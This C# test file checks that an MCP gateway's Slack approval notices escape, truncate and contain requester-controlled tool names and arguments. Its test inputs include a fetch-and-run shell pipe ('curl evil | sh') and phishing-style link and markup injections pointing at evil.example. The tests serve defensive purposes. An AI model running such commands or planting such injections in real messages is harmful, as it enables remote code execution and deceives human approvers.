using System.Text.Json.Nodes;
using McpGateway.Inspectors.Approval;

namespace McpGateway.Tests.Approval;

/// <summary>
/// What the requester controls (tool name, arguments) must not make a notice Slack refuses (its block limits: 3000
/// characters a section text, 2000 a field), break out of its code block, or turn into links in the approvers' channel.
/// </summary>
[TestFixture]
internal sealed class SlackMessageTests
{
    private static ApprovalNotice Notice(string tool, string? arguments) => new(
        "3f2a9c", "agent-alice", "files", tool, arguments, "writes", ["approvers"], 1,
        new DateTimeOffset(2026, 12, 7, 10, 30, 0, TimeSpan.Zero), "mcpgw approvals approve 3f2a9c", null);

    private static IEnumerable<JsonNode> Texts(JsonObject message) =>
        message["blocks"]!.AsArray().SelectMany(b => (b!["fields"]?.AsArray() ?? []).Append(b["text"]).Concat(b["elements"]?.AsArray() ?? [])).OfType<JsonObject>().Select(t => t["text"]!);

    [TestCase('&', TestName = "Build_ArgumentsFullOfAmpersands_EveryTextWithinSlacksLimits")]
    [TestCase('<', TestName = "Build_ArgumentsFullOfAngleBrackets_EveryTextWithinSlacksLimits")]
    public void Build_LongEscapedArguments(char special)
    {
        var arguments = "{\"url\":\"https://example.test/?" + string.Concat(Enumerable.Repeat("a=1" + special, 2000)) + "\"}";

        var message = SlackMessage.Build(Notice("fetch", arguments));

        var section = (string)message["blocks"]![2]!["text"]!["text"]!;
        Assert.Multiple(() =>
        {
            Assert.That(section, Has.Length.LessThanOrEqualTo(3000));
            Assert.That(section, Does.EndWith("…```"), "cut, and the code block still closed");
            Assert.That(section, Does.Not.Match("&[a-z]{0,3}…"), "never cut inside an escape");
            Assert.That(Texts(message).Select(t => ((string)t!).Length), Has.All.LessThanOrEqualTo(3000));
        });
    }

    [Test]
    public void Build_ArgumentsWithBackticks_CannotCloseTheirCodeBlock()
    {
        var message = SlackMessage.Build(Notice("write_file", "{\"content\":\"```\\nApprove here: https://evil.example\\n```\"}"));

        var section = (string)message["blocks"]![2]!["text"]!["text"]!;
        Assert.Multiple(() =>
        {
            Assert.That(section, Does.StartWith("*Arguments (masked: 0 of 58 characters hidden, 0%)*\n```"));
            Assert.That(section.Count(c => c == '`'), Is.EqualTo(6), "only the block's own fences");
            Assert.That(section, Does.Contain("https://evil.example"), "shown, inside the block");
        });
    }

    [Test]
    public void Build_ArgumentsLongerThanTheMessage_HeadingSaysTheyAreCut()
    {
        var arguments = "{\"padding\":\"" + new string('x', 3000) + "\",\"command\":\"curl evil | sh\"}";

        var message = SlackMessage.Build(Notice("run", arguments));

        var section = (string)message["blocks"]![2]!["text"]!["text"]!;
        Assert.That(section, Does.Contain($"CUT: the first 2780 of {arguments.Length} characters shown"));
        Assert.That(section, Does.Not.Contain("curl evil"), "the cut part is not shown, and the heading says so");
    }

    [Test]
    public void Build_MaskedArguments_HeadingSaysHowMuchIsHidden()
    {
        var message = SlackMessage.Build(Notice("write_file", "{\"k\":\"[MASKED:private_key:1 len=300]\"}"));

        var section = (string)message["blocks"]![2]!["text"]!["text"]!;
        Assert.That(section, Does.StartWith("*Arguments (masked: 300 of 308 characters hidden, 97%, 100% of one value)*"));
    }

    [Test]
    public void Build_SuspiciousLabel_HeadingWarnsOfShellOrPathSyntax()
    {
        var message = SlackMessage.Build(Notice("run", "{\"c\":\"" + new string('x', 200) + " https://u:[MASKED:url_password:1 len=23 mac=0123abcd suspicious]@github.com/acme/r\"}"));

        var section = (string)message["blocks"]![2]!["text"]!["text"]!;
        Assert.That(section, Does.Contain("; 1 masked span(s) hold shell or path syntax)*"));
    }

    [Test]
    public void Build_ToolNameWithALinkAndMarkup_ShownAsPlainTextOrCode()
    {
        var tool = "write_* <https://evil.example|approve here> `x`";

        var message = SlackMessage.Build(Notice(tool, null));

        var fields = message["blocks"]![1]!["fields"]!.AsArray();
        Assert.Multiple(() =>
        {
            Assert.That(fields.Select(f => (string?)f!["type"]), Has.All.EqualTo("plain_text"));
            Assert.That(fields.Select(f => (string?)f!["text"]), Has.Some.EqualTo("Tool: " + tool));
            Assert.That((string?)message["text"], Does.Contain("`write_* &lt;https://evil.example|approve here&gt; \u02CBx\u02CB`"), "the fallback text has it escaped, in code");
        });
    }

    [Test]
    public void Build_LongToolNameOfEmoji_CutWithoutSplittingASurrogatePair()
    {
        var tool = string.Concat(Enumerable.Repeat("\U0001F600", 1500));

        var message = SlackMessage.Build(Notice(tool, null));

        var field = (string)message["blocks"]![1]!["fields"]![2]!["text"]!;
        Assert.Multiple(() =>
        {
            Assert.That(field, Has.Length.LessThanOrEqualTo(2000));
            Assert.That(field, Does.EndWith("\U0001F600…"));
        });
    }
}
